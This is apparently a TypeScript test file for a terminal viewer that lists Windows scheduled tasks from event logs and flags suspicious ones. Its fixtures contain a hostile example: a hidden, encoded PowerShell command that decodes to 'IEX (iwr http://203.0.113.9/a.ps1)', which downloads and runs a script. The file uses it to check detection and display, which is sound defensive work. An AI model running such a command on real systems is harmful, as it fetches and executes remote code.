/** The list of all tasks and the page of one, as lines of text. */
import fc from "fast-check";
import { describe, expect, it, test } from "vitest";
import { ASCII_GLYPHS } from "../../../../src/screen/rows/glyphs.ts";
import { FIRST_SORTINGS } from "../../../../src/screen/store/sorting.ts";
import type { Look } from "../../../../src/screen/rows/look.ts";
import { textOf, widthOf } from "../../../../src/screen/rows/segment.ts";
import {
  emptyTaskList,
  taskListHeads,
  taskListLine,
  taskListTitle,
} from "../../../../src/screen/rows/task-list.ts";
import {
  taskHeading,
  taskPage,
} from "../../../../src/screen/rows/task-page.ts";
import {
  STORIED_TASK,
  TASKS,
  TASK_RECORD,
  taskDetail,
  taskList,
} from "../../../screen/fake-snapshot.ts";

const LOOK: Look = { glyphs: ASCII_GLYPHS, time: "utc", clockUs: undefined };
const WIDTH = 80;

describe("the list", () => {
  const at = (width: number): string[] =>
    [
      taskListHeads(width, FIRST_SORTINGS["all-tasks"], LOOK),
      ...TASKS.map((row, i) =>
        taskListLine(row, { width, selected: i === 0 }, LOOK),
      ),
    ].map((each) => textOf(each).trimEnd());

  it("has columns, more of them where there is room", () => {
    expect(at(80)).toEqual([
      "  last v         what     host         task                  runs",
      "> 03-05 12:04:27 created  WKS-014      \\Updater              powe.. -> IEX (iw..",
      "  03-05 12:01:07 created? WKS-014      \\Microsoft..DriveSync C:\\Users\\..d.exe -s",
      "  03-05 11:40:19 changed  SRV-07       \\Backup               the log says that..",
    ]);
    expect(at(120)[1]).toContain(
      "created  WKS-014      from WKS-007        \\Upd",
    );
    expect(at(120)[2]).toContain(
      "created? WKS-014      local?              \\Mic",
    );
    expect(at(40)[1]).toMatch(/^> 12:04:27 created  WKS-014  /);
  });

  it("says how many there are, or why there is none", () => {
    expect(taskListTitle(undefined, "")).toBe("Scheduled tasks");
    expect(taskListTitle(taskList(), "")).toBe(
      "Scheduled tasks 3, 1 asked for from elsewhere",
    );
    expect(taskListTitle(taskList([], { total: 3, filter: "x" }), "x")).toBe(
      "Scheduled tasks 0 of 3",
    );
    expect(emptyTaskList(undefined)).toBe("Asking for the tasks.");
    expect(emptyTaskList(taskList([]))).toBe(
      "No scheduled task has been created, changed, deleted or asked for.",
    );
    expect(emptyTaskList(taskList())).toBe(
      "None of the 3 tasks matches this filter. \\ clears it.",
    );
  });
});

const linesOf = (
  over: Parameters<typeof taskDetail>[0] = {},
  isWaiting = false,
): string[] =>
  taskPage(taskDetail(over), undefined, WIDTH, isWaiting, LOOK).lines.map(
    (each) => textOf(each).trimEnd(),
  );

test("the page tells all that is known", () => {
  const rule = (name: string): string =>
    `-- ${name} ${"-".repeat(WIDTH - name.length - 4)}`;
  expect(linesOf()).toEqual([
    rule("Runs"),
    "    decoded: powershell-encoded",
    "      IEX (iwr http://203.0.113.9/a.ps1)",
    "    runs    powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACA…",
    "    in      C:\\Windows\\Temp",
    "    not opened: depth-limit",
    "    the author is a placeholder: $(@%systemroot%\\x.dll,-1)",
    "    by the task event 4698",
    "",
    rule("Look closer"),
    "  ! PowerShell with an encoded command: -enc SQBFAFgA",
    "    encoded-powershell",
    "  ! was created and removed at once: 0.2 s",
    "    short-lived",
    "  ! its descriptor was deleted",
    "    sd-removed",
    "",
    rule("Who"),
    "  asked by    CORP\\jdoe",
    "  from        another host: WKS-007, 10.0.0.7 (logon 0xabc (4624))",
    "  session     0xabc, Network",
    "  runs as     S-1-5-18 (SYSTEM), HighestAvailable (elevated), S4U (no password",
    "              stored, no network)",
    "  privileges  SeDebugPrivilege",
    "  author      CORP\\jdoe",
    "  dated       2024-03-05T12:04:27",
    "    Author and date are what the definition claims.",
    "",
    rule("When"),
    "  starts      every 5 minutes from 2024-03-05 12:05",
    "  created     2024-03-05 12:04:28.400Z",
    "  deleted     2024-03-05 12:04:28.600Z",
    "  lived       0.2 s only",
    "  hidden      its definition asks for it; its security descriptor was removed",
    "  enabled     no",
    "  expires     deleted PT0S after its last trigger has ended",
    "",
    rule("Changed"),
    "  runs as     was CORP\\jdoe",
    "              is  S-1-5-18",
    "",
    rule("Story"),
    "  2024-03-05 12:04:28.400Z",
    "    created",
    "      registry values, wks.ndjson:100",
    "      task event 4698",
    "  2024-03-05 12:04:28.600Z",
    "    deleted",
    "      task event 4699, wks.ndjson:120",
    "",
    rule("Evidence"),
    "  name        its own events, wks.ndjson:99",
    "  asked by    inferred: command line",
    "  files       /var/log/win/wks.ndjson",
    "",
  ]);
});

test("in a wide window the story stands at the left", () => {
  const page = taskPage(taskDetail(), 60, 60, false, LOOK);
  expect(textOf(page.beside[0]!)).toMatch(/^-- Story -/);
  expect(page.sections.map(({ name }) => name)).toEqual([
    "Runs",
    "Look closer",
    "Who",
    "When",
    "Changed",
    "Evidence",
  ]);
});

test("of a task whose content is not told it says so, and that it may still come", () => {
  const {
    definition: _,
    unwrapped: __,
    differences: ___,
    ...bare
  } = STORIED_TASK;
  const unknown = "The log does not show what this task runs.";
  const record = { ...bare, definition: undefined, unknown };
  const lines = linesOf({ records: [record] }, true);
  expect(lines.slice(1, 4)).toEqual([
    "    Waiting for task content.",
    `    ${unknown}`,
    "",
  ]);
  expect(linesOf({ records: [record] }).slice(1, 3)).toEqual([
    `    ${unknown}`,
    "",
  ]);
});

test("a source that says something else is shown behind the best one", () => {
  const other = {
    ...TASK_RECORD,
    from: "command line",
    definition: {
      ...TASK_RECORD.definition!,
      actions: [{ type: "exec", id: null, command: "other.exe" } as const],
      problems: [],
    },
  };
  const lines = linesOf({ records: [STORIED_TASK, other] });
  expect(lines).toContain("    But the command line says:");
  expect(lines).toContain("    runs    other.exe");
});

test("the heading names the task, its GUID, and its place", () => {
  const page = taskPage(taskDetail(), undefined, WIDTH, false, LOOK);
  const heading = (width: number, over = {}): string[] =>
    taskHeading(taskDetail(over), page, "Runs", width, 3, LOOK).map((each) =>
      textOf(each).trimEnd(),
    );
  expect(heading(120).slice(0, 2)).toEqual([
    `\\Updater${" ".repeat(120 - 8 - 11)}task 1 of 3`,
    "created 2024-03-05 12:04:27.000Z  on WKS-014  {6F3C1A52-0000-4000-8000-000000000001}",
  ]);
  expect(heading(80, { index: -1 })[0]).toBe("\\Updater");
  expect(heading(80)[2]).toBe(
    "-- [Runs]  Look closer   Who   When   Changed   Story   Evidence  --------------",
  );
});

test("hostile texts stay inside the window and are shown escaped", () => {
  fc.assert(
    fc.property(
      fc.string({ unit: "binary", maxLength: 60 }),
      fc.integer({ min: 20, max: 130 }),
      (text, width) => {
        const record = {
          ...STORIED_TASK,
          path: text,
          user: text,
          definition: {
            ...STORIED_TASK.definition!,
            author: text,
            actions: [
              { type: "exec", id: null, command: text, arguments: text },
            ] as const,
          },
          story: [{ timeUs: 0, what: "ran", text, from: [text] }] as const,
        };
        const detail = taskDetail({ records: [record] });
        const page = taskPage(detail, undefined, width, false, LOOK);
        const lines = [
          ...page.lines,
          ...taskHeading(detail, page, "Runs", width, 3, LOOK),
          taskListLine(
            { ...TASKS[0]!, name: text, host: text, command: text },
            { width, selected: false },
            LOOK,
          ),
        ];
        for (const each of lines) {
          expect(widthOf(each.segments)).toBeLessThanOrEqual(width);
          expect(textOf(each)).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202e]/);
        }
      },
    ),
    { numRuns: 100 },
  );
});
